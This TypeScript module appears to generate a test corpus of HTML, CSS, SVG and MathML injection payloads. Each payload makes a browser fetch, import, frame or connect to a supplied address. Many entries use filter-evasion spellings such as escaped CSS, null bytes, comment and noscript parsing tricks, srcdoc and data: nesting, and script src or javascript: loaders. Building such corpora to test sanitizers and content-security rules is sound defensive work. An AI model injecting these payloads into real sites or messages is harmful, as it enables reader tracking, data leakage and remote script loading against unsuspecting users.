/** Markup that makes a browser fetch, look up or connect to an address, where nothing stops it. */
import { numbered, type Payload, words } from './payload.ts';

/** Elements with the attribute that holds an address, and what else they need to use it. */
const ATTRIBUTES = `
  img src | img srcset | img lowsrc | img dynsrc | img longdesc | img attributionsrc src=data:, | img SRC
  img src loading=eager fetchpriority=high | img src width=1 height=1 | img src style=display:none | img src hidden
  img srcset sizes=100vw | img src crossorigin | image src | image href | input src type=image
  input src type=image formaction=x | video src | video src autoplay muted | video poster | audio src
  audio src autoplay | bgsound src | iframe src | iframe src loading=eager | iframe src sandbox | frame src
  object data | object data type=image/png | object data type=text/html | object codebase classid=java:x
  object classid | object archive data=data:, | object movie type=application/x-shockwave-flash | embed src
  embed src type=image/png | embed code | embed pluginspage | applet code | applet codebase | applet archive
  applet object | portal src | fencedframe src | fencedframe config | controlledframe src | webview src
  script src | script src async | script src type=module | script src type=importmap | script src nomodule
  script attributionsrc | body background | table background | tr background | td background | th background
  thead background | tbody background | tfoot background | col background | div background | p background
  a ping href=# | a attributionsrc href=# | a href | area ping href=# shape=default | area href shape=default
  form action | button formaction | isindex src type=image | isindex action | menuitem icon | html manifest
  head profile | base href | xml src | layer src | ilayer src | blockquote cite | q cite | del cite | ins cite
  div itemid itemscope | div data-src | div src | div href | div style=x xml:base | track src default
  source src | source srcset | command icon | link href rel=stylesheet | style src | model src | selectmenu src
`;

const LINK_RELATIONS = `
  stylesheet prefetch preload prerender preconnect dns-prefetch modulepreload icon apple-touch-icon
  apple-touch-icon-precomposed apple-touch-startup-image mask-icon manifest search import alternate canonical next prev
  first last up start index help author license pingback shortlink amphtml archives bookmark contents copyright glossary
  sidebar subresource tag compression-dictionary expect offline P3Pv1 publisher privacy-policy terms-of-service
`;
const PRELOADED = 'audio document embed fetch font image object script style track video worker json';

const META = [
  '<meta http-equiv=refresh content="0;url={url}">',
  '<meta http-equiv=Refresh content="0; {url}">',
  `<META HTTP-EQUIV='refresh' CONTENT="0;URL='{url}'">`,
  '<meta http-equiv=refresh content="0,url=data:text/html,<img src={url}>">',
  '<meta http-equiv=Content-Security-Policy content="img-src \'none\'; report-uri {url}"><img src=data:,x>',
  '<meta http-equiv=Content-Security-Policy-Report-Only content="default-src \'none\'; report-uri {url}">',
  '<meta http-equiv=x-dns-prefetch-control content=on><a href="{url}">x</a>',
  '<meta http-equiv=Link content="<{url}>; rel=preload; as=image">',
  '<meta http-equiv=set-cookie content="x=1"><img src="{url}">',
  '<meta name=msapplication-TileImage content="{url}"><meta name=msapplication-config content="{url}">',
  '<meta property=og:image content="{url}"><meta itemprop=image content="{url}">',
  '<meta name=referrer content=unsafe-url><img src="{url}">',
];

const LINKS_MORE = [
  '<link rel=preload as=image imagesrcset="{url} 1x" imagesizes=1px>',
  '<link rel="preconnect dns-prefetch" href="{url}" crossorigin>',
  '<link rel="alternate stylesheet" title=x href="{url}">',
  '<link rel="shortcut icon" href="{url}">',
  '<link rel=search type=application/opensearchdescription+xml href="{url}">',
  '<link rel=stylesheet href="data:text/css,@import%20url({url});">',
  '<link rel=alternate type=application/atom+xml href="{url}">',
  '<link rel=stylesheet media="not print" href="{url}">',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{url}"],"eagerness":"immediate"}]}</script>',
  '<script type=speculationrules>{"prerender":[{"source":"list","urls":["{url}"],"eagerness":"immediate"}]}</script>',
  '<script type=importmap>{"imports":{"x":"{url}"}}</script><script type=module>import "x"</script>',
  '<base href="{url}"><img src=x.png>',
  '<base href="{url}" target=_top><link rel=stylesheet href=x.css>',
];

/** CSS properties that take an image or another document. */
const PROPERTIES = `
  background background-image border-image border-image-source list-style list-style-image cursor content mask mask-image
  mask-border mask-border-source mask-box-image -webkit-mask -webkit-mask-image -webkit-mask-box-image
  -webkit-mask-box-image-source -webkit-border-image -moz-border-image shape-outside filter -webkit-filter backdrop-filter
  clip-path -webkit-clip-path offset-path offset fill stroke marker marker-start behavior -moz-binding src
`;

/** Ways to write an address in CSS. */
const NOTATIONS = [
  "url('{url}')",
  'url({url})',
  'URL( {url} )',
  "\\75\\72\\6c('{url}')",
  "\\000075\\000072\\00006C ('{url}')",
  "u\\r\\l('{url}')",
  "url(\\'{url}\\')",
  "src('{url}')",
  "image('{url}')",
  "image-set('{url}' 1x)",
  "image-set(url('{url}') 1x, url('{url}') 2x)",
  "-webkit-image-set(url('{url}') 1x)",
  "cross-fade(url('{url}'), red, 50%)",
  "-webkit-cross-fade(url('{url}'), url('{url}'), 50%)",
  "url() url() url('{url}')",
  "linear-gradient(red, red), url('{url}')",
  "url('{url}'), auto",
  "if(media(all): url('{url}'))",
  "url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{url}%22/></svg>')",
  '/**/u/**/rl({url}) url({url})',
  'url&#40;{url}&#41;',
];

const SHEETS = [
  "@import '{url}';",
  '@import url({url});',
  "@import '{url}' layer(x);",
  "@import '{url}' supports(display: block);",
  "@import '{url}' screen;",
  "@\\69mport '{url}';",
  "<!-- @import '{url}'; -->",
  "@charset 'utf-8'; @import '{url}';",
  "@import 'data:text/css,@import%20url({url})';",
  "@font-face{font-family:x;src:url('{url}')} p{font-family:x}",
  "@font-face{font-family:x;src:local(none),url('{url}') format('woff2')} *{font-family:x!important}",
  "@font-feature-values x{} @font-face{font-family:x;src:url('{url}') tech(color-COLRv1)} p{font:9px x}",
  "@counter-style x{system:cyclic;symbols:url('{url}')} p{display:list-item;list-style:x}",
  "@property --x{syntax:'<image>';inherits:false;initial-value:url('{url}')} p{background:var(--x)}",
  "p{--x:url('{url}');background:var(--x)}",
  "p::before{content:url('{url}')}",
  "p:after{content:'x' url('{url}')}",
  "p::marker{content:url('{url}')} p{display:list-item}",
  "p::first-letter{background:url('{url}')}",
  "::selection{background:url('{url}')} ::backdrop{background:url('{url}')}",
  ":root{background:url('{url}')}",
  ":host{background:url('{url}')} html:has(p){background:url('{url}')}",
  "@keyframes x{from{background:url('{url}')}} p{animation:x 9s}",
  "@media all{p{background:url('{url}')}} @supports(top:0){p{background:url('{url}')}}",
  "@container (min-width:0){p{background:url('{url}')}} @layer x{p{background:url('{url}')}}",
  "@scope(body){p{background:url('{url}')}} @starting-style{p{background:url('{url}')}}",
  "@page{background:url('{url}');@top-left{content:url('{url}')}}",
  "@namespace url('{url}'); @-moz-document url-prefix(){p{background:url('{url}')}}",
  'p{background:attr(title type(<url>))} /*# sourceMappingURL={url} */',
  'p[title^="x"]{background:url({url})}',
];

const SVG = [
  '<image href="{url}"/>',
  '<image xlink:href="{url}"/>',
  '<use href="{url}#x"/>',
  '<use xlink:href="{url}#x"/>',
  '<filter id=x><feImage href="{url}"/></filter><rect filter="url(#x)" width=9 height=9 />',
  '<filter id=x><feImage xlink:href="{url}"/></filter><g filter="url(#x)"><rect width=9 height=9 /></g>',
  '<rect fill="url({url}#x)" width=9 height=9 />',
  '<rect stroke="url({url}#x)" width=9 height=9 />',
  '<rect filter="url({url}#x)" width=9 height=9 />',
  '<rect mask="url({url}#x)" width=9 height=9 />',
  '<rect clip-path="url({url}#x)" width=9 height=9 />',
  '<path marker-end="url({url}#x)" d="M0 0h9"/>',
  '<rect cursor="url({url}),auto" width=9 height=9 />',
  '<rect style="fill:url({url}#x);mask:url({url})" width=9 height=9 />',
  '<script href="{url}"></script>',
  '<script xlink:href="{url}"></script>',
  '<style>@import "{url}";</style>',
  '<style>rect{fill:url({url}#x)}</style><rect width=9 height=9 />',
  '<foreignObject width=9 height=9><img src="{url}"></foreignObject>',
  '<foreignObject width=9 height=9><iframe src="{url}"></iframe></foreignObject>',
  '<a href="{url}"><text y=9>x</text></a>',
  '<image><set attributeName=href begin=0s to="{url}"/></image>',
  '<image><animate attributeName=href begin=0s dur=1s values="{url};{url}"/></image>',
  '<image><animate attributeName=xlink:href begin=0s from=# to="{url}"/></image>',
  '<text><textPath href="{url}#x">x</textPath></text>',
  '<text><tref xlink:href="{url}#x"/></text>',
  '<linearGradient id=x href="{url}#x"/><rect fill="url(#x)" width=9 height=9 />',
  '<pattern id=x href="{url}#x"/><rect fill="url(#x)" width=9 height=9 />',
  '<rect><animateMotion dur=1s><mpath href="{url}#x"/></animateMotion></rect>',
  '<font-face><font-face-src><font-face-uri xlink:href="{url}"/></font-face-src></font-face>',
  '<color-profile xlink:href="{url}"/><cursor xlink:href="{url}"/><altGlyph xlink:href="{url}"/>',
  '<handler xlink:href="{url}"/><listener handler="{url}"/><discard href="{url}"/>',
  '<video href="{url}"/><audio xlink:href="{url}"/><iframe src="{url}"/>',
  '<image href="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{url}%22/></svg>"/>',
];

const MATH = [
  '<math href="{url}"><mi>x</mi></math>',
  '<math xlink:href="{url}"><mi>x</mi></math>',
  '<math><mi href="{url}">x</mi><mrow xlink:href="{url}"></mrow></math>',
  '<math><mglyph src="{url}"/></math>',
  '<math><mtext><img src="{url}"></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src="{url}"></annotation-xml></math>',
  '<math><annotation-xml encoding="image/svg+xml"><svg><image href="{url}"/></svg></annotation-xml></math>',
  '<math><semantics definitionURL="{url}"><annotation src="{url}"/></semantics></math>',
  '<math><mi style="background:url({url})">x</mi></math>',
  '<math altimg="{url}" background="{url}"></math>',
];

const FRAMED = [
  '<iframe srcdoc="<img src={url}>"></iframe>',
  '<iframe srcdoc="&lt;img src=&quot;{url}&quot;&gt;"></iframe>',
  '<iframe srcdoc="<meta http-equiv=refresh content=0;url={url}>"></iframe>',
  '<iframe src="data:text/html,<img src={url}>"></iframe>',
  '<iframe src="javascript:\'<img src={url}>\'"></iframe>',
  '<iframe src="view-source:{url}"></iframe>',
  '<iframe src="about:blank" name="{url}" csp="report-uri {url}"></iframe>',
  '<object data="data:text/html,<img src={url}>"></object>',
  '<object><param name=movie value="{url}"><param name=src value="{url}"><param name=url value="{url}"></object>',
  '<object data=x.none><img src="{url}"></object>',
  '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{url}%22/></svg>">',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{url}%22/></svg>">',
  '<img src="data:text/html,<script src={url}></script>"><img src="blob:{url}"><img src="filesystem:{url}">',
  '<frameset><frame src="{url}"></frameset>',
  '<noframes><img src="{url}"></noframes><noembed><img src="{url}"></noembed>',
];

const PLACES = [
  '<picture><source srcset="{url}"><img></picture>',
  '<picture><source srcset="{url}" media=all type=image/png><img src=data:,></picture>',
  '<picture><source src="{url}"><img srcset="{url} 2x"></picture>',
  '<video><source src="{url}"></video>',
  '<video autoplay muted><source src="{url}" type=video/mp4><track default src="{url}"></video>',
  '<audio controls><source src="{url}"></audio>',
  '<video poster="{url}" src="{url}"></video>',
  '<img srcset=",,,{url}">',
  '<img srcset="{url} 1x, {url} 2x" sizes="(min-width:1px) 9px">',
  '<div><template shadowrootmode=open><img src="{url}"></template></div>',
  '<div><template shadowrootmode=closed><style>@import "{url}"</style><slot></slot></template>x</div>',
  '<div><template shadowroot=open><link rel=stylesheet href="{url}"></template></div>',
  '<template><img src="{url}"></template>',
  '<template for=x><img src="{url}"></template><template patchfor=x><img src="{url}"></template>',
  '<noscript><img src="{url}"></noscript>',
  '<noscript><p title="</noscript><img src={url}>">',
  '<select><option><img src="{url}"></option></select>',
  '<select><button><selectedcontent></selectedcontent></button><option selected><img src="{url}"></select>',
  '<dialog open><img src="{url}"></dialog>',
  '<details open><summary><img src="{url}"></summary></details>',
  '<map name=x><area href="{url}" ping="{url}" shape=default></map><img usemap=#x src=data:,>',
  '<button form=x formaction="{url}">x</button><form id=x action="{url}" method=post></form>',
  '<form action="{url}"><input type=image src="{url}"><input type=submit autofocus></form>',
  '<p is=x-x style="background:url({url})" onclick="">x</p>',
  '<marquee background="{url}" style="background:url({url})">x</marquee>',
  '<table><caption style="background:url({url})">x</caption><tr><td style="background:url({url})">x</table>',
  '<font style="background:url({url})">x</font><li style="list-style:url({url})">x</li>',
  '<hr style="background:url({url});height:9px"><ul style="list-style-image:url({url})"><li>x</ul>',
  '<body style="background:url({url})"><body background="{url}">',
  '<html style="background:url({url})" manifest="{url}">',
  '<!DOCTYPE html SYSTEM "{url}"><?xml-stylesheet type="text/css" href="{url}"?>',
  '<?xml-stylesheet type="text/xsl" href="{url}"?><?import namespace="x" implementation="{url}"?>',
  '<!--[if true]><link rel=stylesheet href="{url}"><![endif]--><![if true]><img src="{url}"><![endif]>',
  '<xml id=x src="{url}"></xml><div datasrc=#x datafld=y dataformatas=html></div>',
  '<v:fill src="{url}"/><v:imagedata o:href="{url}"/><v:shape style="behavior:url(#default#VML)">x</v:shape>',
  '<div style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=\'{url}\')">x</div>',
  '<div style="background:url({url}" title=")">x</div>',
  '<svg xml:base="{url}"><image href="x.png"/></svg>',
  '<a href="{url}" rel="prefetch preconnect" ping="{url}" attributionsrc="{url}">x</a>',
];

/** Ways to write one and the same image. */
const SPELLINGS = [
  '<img src={url}>',
  "<img src='{url}'>",
  '<img/src="{url}"/>',
  '<IMG\tSRC\n=\r"{url}">',
  '<img\fsrc="{url}">',
  '<img src="\t{url}\n">',
  '<img src=" \u0001{url}">',
  '<img src=`{url}`>',
  '<img src="" src="{url}"><img srcset src="{url}">',
  '<img alt="<img src={url}>" title=\'"><img src={url}>\'>',
  '<img """><img src="{url}">">',
  '<img src="{url}" <b>x</b>',
  '<<img src="{url}">',
  '<img\u0000 src="{url}">',
  '<im\u0000g src="{url}"><img sr\u0000c="{url}">',
  '<p><img src="{url}"<p>',
  '&lt;img src="{url}"&gt;&#60;img src="{url}"&#62;',
  '<![CDATA[<img src="{url}">]]>',
  '<!--><img src="{url}">--><!---><img src="{url}">-->',
  '<!-- --!><img src="{url}">-->',
  '</p/<img src="{url}">',
];

function fromTable(): string[] {
  return ATTRIBUTES.split(/[|\n]/)
    .map((line) => line.trim())
    .filter(Boolean)
    .map((line) => {
      const [element, attribute, ...more] = line.split(' ');
      return `<${element} ${[...more, `${attribute}="{url}"`].join(' ')}>x</${element}>`;
    });
}

function links(): string[] {
  return [
    ...words(LINK_RELATIONS).map((relation) => `<link rel=${relation} href="{url}">`),
    ...words(PRELOADED).map((kind) => `<link rel=preload as=${kind} href="{url}">`),
    ...LINKS_MORE,
  ];
}

function styles(): string[] {
  const inline = (style: string) => `<p style="${style}">x</p>`;
  const sheet = (style: string) => `<style>p{${style}}</style><p>x</p>`;
  const all = [
    ...words(PROPERTIES).map((property) => `${property}:url('{url}')`),
    ...NOTATIONS.map((notation) => `background-image:${notation};cursor:${notation};content:${notation}`),
  ];
  return [...all.map(inline), ...all.map(sheet), ...SHEETS.map((css) => `<style>${css}</style><p>x</p>`)];
}

/** All of it, with `{url}` where the address goes. */
const TEMPLATES: Record<string, string[]> = {
  attribute: fromTable(),
  link: links(),
  meta: META,
  style: styles(),
  svg: SVG.map((inside) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`),
  math: MATH,
  framed: FRAMED,
  place: PLACES,
  spelling: SPELLINGS,
};

/**
 * Every payload that fetches, each with all the addresses given for it.
 *
 * @param addressesOf what is to be reached, by the payload's id
 */
export function fetchingPayloads(addressesOf: (id: string) => string[]): Payload[] {
  return Object.entries(TEMPLATES).flatMap(([kind, templates]) =>
    numbered(kind, templates).map(({ id, html }) => ({
      id,
      html: addressesOf(id)
        .map((url) => html.replaceAll('{url}', url))
        .join(''),
      ...(/^<(frameset|frame|noframes)/.test(html) && { isLast: true as const }),
    })),
  );
}
